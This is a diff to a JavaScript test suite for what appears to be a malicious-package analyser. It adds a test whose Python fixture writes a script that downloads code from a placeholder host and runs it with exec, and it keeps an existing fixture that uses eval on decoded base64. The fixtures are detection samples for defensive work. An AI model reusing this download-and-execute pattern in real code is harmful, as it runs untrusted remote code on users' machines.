@@ -70,6 +70,16 @@ describe('JavaScript', () => {
     expect(gatherFacts(pkg).actions.find(({ kind }) => kind === 'execute')?.trigger.kind).toBe('import')
   })
 
+  it('puts together what is written to a file piece by piece', () => {
+    const found = py(`import os
+with open('/tmp/a.py', 'w') as f:
+    f.write("import urllib.request\\n")
+    f.write("t = urllib.request.urlopen('https://a.example').read()\\n")
+    f.write("exec(t)\\n")
+os.system('python3 /tmp/a.py')`)
+    expect(lines(found)).toContain('execute<fetched> exec null')
+  })
+
   it('survives imports in a circle', () => {
     expect(js(`require('./b'); eval(atob('eA=='))`, { 'b.js': `require('./a')` }).actions.some((action) => action.kind === 'execute')).toBe(true)
   })
